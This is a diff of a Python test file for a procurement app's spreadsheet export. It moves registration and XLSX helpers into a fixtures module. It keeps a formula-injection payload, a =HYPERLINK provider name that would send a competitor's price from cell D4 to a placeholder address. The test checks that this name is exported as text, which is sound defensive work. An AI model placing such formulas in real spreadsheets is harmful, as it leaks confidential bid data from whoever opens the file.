@@ -7,48 +7,12 @@ import openpyxl
 import pytest
 from openpyxl import Workbook
 
-from procurement.models import User
 from procurement.spreadsheets import FORMULA_TRIGGERS, append_row
-from tenders.models import Lot
-from tests import factories
-from tests.helpers import decided_call
+from tests.fixtures.exports import cells, comparison_xlsx
 
 # A provider's name that openpyxl wrote as a live formula: clicked, it sends the cell next to it (D4: a competitor's
 # comparison price) to the address.
 HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?p="&D4,"Avaa tarjous")'
-
-
-def register(client, name: str, n: int) -> User:
-    response = client.post(
-        "/api/v1/providers/register/",
-        {
-            "organisation": {"name": name, "business_id": factories._business_id(8800 + n), "email": "o@x.example"},
-            "admin": {"username": f"kaava{n}", "password": "Pitka-ja-vahva-salasana-2026", "email": "a@x.example"},
-        },
-        format="json",
-    )
-    assert response.status_code == 201, response.content
-    return User.objects.get(username=f"kaava{n}")
-
-
-def comparison_xlsx(authority, officer, client_for, names: list[str], lot_title: str = "Kuopio") -> bytes:
-    """A decided call whose bidders registered with these names, its first lot titled so; its XLSX as the panel's
-    officer downloads it."""
-    members = [register(client_for(), name, n) for n, name in enumerate(names)]
-    tender = decided_call(
-        officer=officer, bidders=[(m, str(9000 - 100 * n)) for n, m in enumerate(members)], authority=authority
-    )
-    Lot.objects.filter(tender=tender, number=1).update(title=lot_title)
-    response = client_for(officer).get(f"/api/v1/tenders/{tender.pk}/results/xlsx/")
-    assert response.status_code == 200
-    return response.content
-
-
-def cells(data: bytes) -> list:
-    workbook = openpyxl.load_workbook(io.BytesIO(data))
-    return [
-        cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None
-    ]
 
 
 def test_a_formula_as_a_providers_name_is_text_in_the_comparison_xlsx(authority, officer, client_for):
